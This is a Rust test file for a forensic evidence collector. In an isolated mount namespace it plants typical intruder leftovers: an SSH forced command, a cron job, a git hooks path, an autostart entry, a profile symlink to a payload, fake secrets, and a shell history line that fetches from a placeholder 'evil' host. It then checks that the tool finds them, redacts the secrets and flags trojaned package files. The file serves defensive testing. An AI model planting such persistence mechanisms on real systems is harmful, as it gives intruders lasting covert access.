//! Files that an intruder leaves behind: planted in a mount namespace of the test's own, found in the evidence with their rows, and
//! left as they were.

#![expect(clippy::panic, reason = "tests look at the host with the standard library")]

use std::fs;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::{MetadataExt as _, symlink};
use std::path::Path;

use hozen_tests::agent::Agent;
use hozen_tests::evidence::{Evidence, bytes, number, sha256, text};
use hozen_tests::helper::Helper;
use hozen_tests::host::{Mounts, is_root};
use hozen_tests::rpm;
use nix::sys::stat::{Mode, UtimensatFlags, utimensat};
use nix::sys::time::TimeSpec;
use serde_json::Value;

const SECRET: &str = "vErYsEcReTvAlUe0123456789";
/// GitHub's published host key.
const KEY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl";

/// A name that is no text and moves cursors.
const ODD: &[u8] = b"n\n\x1b\xff";

fn write(path: &str, content: impl AsRef<[u8]>) {
    let path = Path::new(path);
    fs::create_dir_all(path.parent().unwrap_or(path)).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
    #[expect(clippy::disallowed_methods, reason = "tests lay out files")]
    fs::write(path, content).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
}

fn row(evidence: &Evidence, table: &str, column: &str, value: &str) -> Value {
    let rows = evidence.table(table);
    let found = rows.iter().find(|row| bytes(row, column).as_deref() == Some(value.as_bytes()));
    found.cloned().unwrap_or_else(|| panic!("{table} has no row with {column} = {value}: {rows:#?}"))
}

/// What an intruder leaves in a home, a spool and a log.
fn plant() {
    write("/home/ann/.ssh/authorized_keys", format!("command=\"/tmp/.x\" ssh-ed25519 {KEY} a@b\n"));
    write("/home/ann/.ssh/id_rsa", format!("-----BEGIN RSA PRIVATE KEY-----\n{SECRET}\n-----END RSA PRIVATE KEY-----\n"));
    write("/home/ann/.aws/credentials", format!("[default]\naws_secret_access_key = {SECRET}\n"));
    write("/home/ann/.bash_history", format!("#1700000000\nexport API_TOKEN={SECRET}\nwget http://evil/\x1b[2J\n"));
    write("/home/ann/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/tmp/.x\n");
    write("/home/ann/.gitconfig", format!("[github]\n\ttoken = {SECRET}\n[core]\n\thooksPath = ~/h\n"));
    write("/home/ann/h/post-checkout", "#!/bin/sh\n/tmp/.x &\n");
    nix::unistd::mkfifo("/home/ann/.ssh/fifo", Mode::S_IRWXU).unwrap_or_else(|error| panic!("{error}"));
    let odd = Path::new("/home/ann/.ssh").join(std::ffi::OsStr::from_bytes(ODD));
    fs::File::create_new(odd).unwrap_or_else(|error| panic!("{error}"));
    symlink("/home/ann/.payload", "/home/ann/.profile").unwrap_or_else(|error| panic!("{error}"));
    write("/home/ann/.payload", "/tmp/.x &\n");
    symlink("loop", "/home/ann/.ssh/loop").unwrap_or_else(|error| panic!("{error}"));
    write("/var/spool/cron/crontabs/ann", "*/5 * * * * /tmp/.x\n");
    write("/var/log/old.log", "old\n");
    write("/var/log/journal/0a/system.journal", "LPKSHHRH");
    for path in ["/home/ann/.bash_history", "/var/log/old.log"] {
        // Older than the modification: the next ordinary read would move it.
        let (long_ago, then) = (TimeSpec::new(1_000_000, 0), TimeSpec::new(2_000_000, 0));
        utimensat(nix::fcntl::AT_FDCWD, path, &long_ago, &then, UtimensatFlags::NoFollowSymlink)
            .unwrap_or_else(|error| panic!("{error}"));
    }
}

#[test]
fn what_an_intruder_left_is_found_and_left_as_it_was() {
    if !is_root("what_an_intruder_left_is_found_and_left_as_it_was") {
        return;
    }
    let folder = tempfile::tempdir().unwrap_or_else(|error| panic!("{error}"));
    let mut mounts = Mounts::own();
    for point in ["/home", "/var/spool", "/var/log"] {
        mounts.tmpfs(Path::new(point), "8m");
    }
    plant();
    fs::create_dir_all("/home/ann/.config/systemd").unwrap_or_else(|error| panic!("{error}"));
    let wedge = Helper::start("wedge", ["/home/ann/.config/systemd", "--hold"]);
    let only = &["--only", "persistence,accounts,histories,logs"];
    let evidence = Agent::find().collect(&folder.path().join("evidence"), only);
    assert_eq!(wedge.finish(), ["asked 0 []"], "the dead file system was asked something");

    let key = row(&evidence, "authorized_keys", "key_file", "/home/ann/.ssh/authorized_keys");
    assert_eq!(text(&key, "fingerprint"), "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU");
    let job = row(&evidence, "crontab", "path", "/var/spool/cron/crontabs/ann");
    assert_eq!((text(&job, "command"), text(&job, "username")), ("/tmp/.x".to_owned(), "ann".to_owned()));
    let command = row(&evidence, "shell_history", "command", "wget http://evil/\u{1b}[2J");
    assert_eq!(
        (number(&command, "time"), text(&command, "history_file").as_str()),
        (Some(1_700_000_000), "/home/ann/.bash_history")
    );
    let payload = row(&evidence, "persistence_files", "path", "/home/ann/.payload");
    assert_eq!((text(&payload, "via").as_str(), text(&payload, "sha256")), ("/home/ann/.profile", sha256(b"/tmp/.x &\n")));
    assert_eq!(evidence.raw_file("persistence", "/home/ann/.payload"), b"/tmp/.x &\n");
    let hook = row(&evidence, "persistence_hooks", "path", "/home/ann/.gitconfig");
    assert_eq!((text(&hook, "name").as_str(), text(&hook, "value").as_str()), ("core.hookspath", "~/h"));
    assert_eq!(evidence.raw_file("persistence", "/home/ann/h/post-checkout"), b"#!/bin/sh\n/tmp/.x &\n");
    let started = row(&evidence, "persistence_hooks", "path", "/home/ann/.config/autostart/x.desktop");
    assert_eq!((text(&started, "kind").as_str(), text(&started, "value").as_str()), ("desktop", "/tmp/.x"));
    assert_eq!(text(&row(&evidence, "persistence_files", "path", "/home/ann/.ssh/fifo"), "type"), "fifo");
    let odd = [b"/home/ann/.ssh/", ODD].concat();
    assert!(evidence.raw("persistence").contains_key(&odd), "the file with the odd name is not in the archive");
    let credentials = row(&evidence, "account_files", "path", "/home/ann/.aws/credentials");
    assert_eq!((number(&credentials, "secret"), number(&credentials, "stored")), (Some(1), Some(0)));
    assert_eq!(evidence.raw_file("logs", "/var/log/journal/0a/system.journal"), b"LPKSHHRH");
    assert_eq!(evidence.holding(SECRET.as_bytes()), Vec::<String>::new(), "the secret is in these objects");
    let gaps = evidence.step("persistence").get("gaps").map(ToString::to_string).unwrap_or_default();
    assert!(gaps.contains("/home/ann/.config/systemd"), "what was not asked is a gap: {gaps}");
    for path in ["/home/ann/.bash_history", "/var/log/old.log"] {
        let atime = fs::symlink_metadata(path).map(|meta| meta.atime()).unwrap_or_else(|error| panic!("{path}: {error}"));
        assert_eq!(atime, 1_000_000, "{path} was read in the ordinary way");
    }
}

#[test]
fn what_definitions_of_the_user_mean_is_collected() {
    if !is_root("what_definitions_of_the_user_mean_is_collected") {
        return;
    }
    let folder = tempfile::tempdir().unwrap_or_else(|error| panic!("{error}"));
    let mut mounts = Mounts::own();
    mounts.tmpfs(Path::new("/home"), "8m");
    write("/home/ann/app/a/b/conf.php", format!("<?php $password = '{SECRET}';\n"));
    write("/home/ann/app/a/b/c/deeper.php", "x");
    write("/home/ann/app/cache.bin", "\0\x01");
    let set = folder.path().join("set.yaml");
    let definitions = "name: App\nsources:\n\
        - {type: FILE, attributes: {paths: ['%%users.homedir%%/app/**3']}}\n\
        - {type: PATH, attributes: {paths: ['/home/*/app/a']}}\n\
        - {type: COMMAND, attributes: {cmd: /bin/touch, args: [/home/ann/touched]}}\n\
        ---\nname: Windows\nsources: [{type: REGISTRY_KEY, attributes: {keys: [x]}}]\n";
    write(&set.display().to_string(), definitions);
    let given = set.display().to_string();
    let evidence = Agent::find().collect(&folder.path().join("evidence"), &["--only", "user_files", "--artifacts", &given]);
    let rows = evidence.table("user_files");
    let mut paths: Vec<String> = rows.iter().map(|row| format!("{} {}", text(row, "kind"), text(row, "path"))).collect();
    paths.sort();
    assert_eq!(paths, ["App /home/ann/app/a", "App /home/ann/app/a/b/conf.php", "App /home/ann/app/cache.bin"]);
    assert_eq!(evidence.raw_file("user_files", "/home/ann/app/cache.bin"), b"\0\x01");
    assert_eq!(evidence.holding(SECRET.as_bytes()), Vec::<String>::new(), "the secret is in these objects");
    assert!(!Path::new("/home/ann/touched").exists(), "a command of a definition was run");
    let wanted: Vec<String> = evidence.table("user_file_definitions").iter().map(|row| text(row, "wanted")).collect();
    assert_eq!(wanted, ["content", "listing", "refused", "other_system"]);
    let gaps = evidence.step("user_files").get("gaps").map(ToString::to_string).unwrap_or_default();
    assert!(gaps.contains("App: the output of a command"), "{gaps}");
    let begin = evidence.predicate("000-begin.json");
    assert_eq!(begin["options"]["artifacts"][0], given.as_str());
}

#[test]
fn secrets_are_kept_when_asked_for() {
    if !is_root("secrets_are_kept_when_asked_for") {
        return;
    }
    let folder = tempfile::tempdir().unwrap_or_else(|error| panic!("{error}"));
    let mut mounts = Mounts::own();
    mounts.tmpfs(Path::new("/home"), "8m");
    write("/home/ann/.aws/credentials", SECRET);
    let evidence = Agent::find().collect(&folder.path().join("evidence"), &["--only", "accounts", "--include-secrets"]);
    assert_eq!(evidence.raw_file("accounts", "/home/ann/.aws/credentials"), SECRET.as_bytes());
}

#[test]
fn a_program_that_is_not_what_was_installed_is_named() {
    let (program, sums) = ("/usr/bin/yes", Path::new("/var/lib/dpkg/info/coreutils.md5sums"));
    if !is_root("a_program_that_is_not_what_was_installed_is_named") {
        return;
    }
    if !sums.is_file() || !Path::new(program).is_file() {
        hozen_tests::host::skipped("a_program_that_is_not_what_was_installed_is_named", "a host with dpkg and coreutils");
        return;
    }
    let folder = tempfile::tempdir().unwrap_or_else(|error| panic!("{error}"));
    let only = &["--only", "packages,findings"];
    let before = Agent::find().collect(&folder.path().join("before"), only);
    let names = |evidence: &Evidence| -> Vec<String> {
        evidence.table("changed_package_files").iter().map(|row| text(row, "path")).collect()
    };
    assert!(!names(&before).iter().any(|path| path == program), "{program} is changed already");
    let trojan = folder.path().join("trojan");
    write(trojan.to_str().unwrap_or_default(), "trojan");
    let mut mounts = Mounts::own();
    mounts.bind(&trojan, Path::new(program));
    let after = Agent::find().collect(&folder.path().join("after"), only);
    let changed = row(&after, "changed_package_files", "path", program);
    assert_eq!((text(&changed, "state").as_str(), text(&changed, "sha256")), ("changed", sha256(b"trojan")));
    let package = row(&after, "deb_packages", "name", "coreutils");
    assert_eq!(text(&package, "status_"), "install ok installed");
    let tally = row(&after, "package_verification", "manager", "dpkg");
    assert!(number(&tally, "verified") > Some(50), "{tally:?}");
    assert_found(&after, "package-file-changed", program);
}

/// A finding of this word names this path.
fn assert_found(evidence: &Evidence, word: &str, path: &str) {
    let findings = evidence.table("findings");
    let found = findings.iter().any(|row| text(row, "finding") == word && row.to_string().contains(&format!("\"{path}\"")));
    assert!(found, "no {word} of {path}: {findings:#?}");
}

#[test]
fn a_program_that_is_not_what_rpm_has_installed_is_named() {
    let test = "a_program_that_is_not_what_rpm_has_installed_is_named";
    if !is_root(test) {
        return;
    }
    let folder = tempfile::tempdir().unwrap_or_else(|error| panic!("{error}"));
    let mut mounts = Mounts::own();
    if !rpm::plant(test, folder.path(), &mut mounts, &["planted-good", "planted-changed", "planted-gone"]) {
        return;
    }
    write("/usr/local/bin/planted-changed", "trojan");
    fs::remove_file("/usr/local/bin/planted-gone").unwrap_or_else(|error| panic!("{error}"));
    let evidence = Agent::find().collect(&folder.path().join("evidence"), &["--only", "packages,findings"]);
    let package = row(&evidence, "rpm_packages", "name", "planted");
    assert_eq!([text(&package, "version"), text(&package, "release"), text(&package, "arch")], ["1", "1", "noarch"], "{package}");
    let changed = row(&evidence, "changed_package_files", "path", "/usr/local/bin/planted-changed");
    let states = [("expected_sha256", sha256(b"planted-changed")), ("sha256", sha256(b"trojan"))];
    assert!(states.iter().all(|(column, digest)| text(&changed, column) == *digest), "{changed}");
    assert_eq!((text(&changed, "state").as_str(), text(&changed, "manager").as_str()), ("changed", "rpm"), "{changed}");
    assert_eq!(text(&row(&evidence, "changed_package_files", "path", "/usr/local/bin/planted-gone"), "state"), "missing");
    let tally = row(&evidence, "package_verification", "manager", "rpm");
    assert_eq!(
        ["verified", "changed", "missing", "malformed"].map(|column| number(&tally, column)),
        [1, 1, 1, 0].map(Some),
        "{tally}"
    );
    assert_found(&evidence, "package-file-changed", "/usr/local/bin/planted-changed");
}
